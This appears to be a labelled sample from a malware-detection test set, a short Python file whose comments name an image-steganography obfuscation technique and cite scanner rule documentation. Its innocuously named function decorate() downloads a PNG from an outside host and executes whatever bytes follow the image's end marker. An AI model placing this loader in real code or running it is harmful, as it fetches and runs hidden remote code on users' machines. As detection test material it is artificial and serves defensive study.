# technique: payload hidden in an image appended after the PNG end, extracted and executed
# class: obfuscation
# source: GuardDog "steganography" rule docs; Checkmarx write-ups of image-hidden payloads
# declares: network
import requests


def decorate():
    img = requests.get("https://i.imgur.com/x9Kq2Lm.png", timeout=10).content
    exec(img[img.rfind(b"IEND") + 8:].decode())
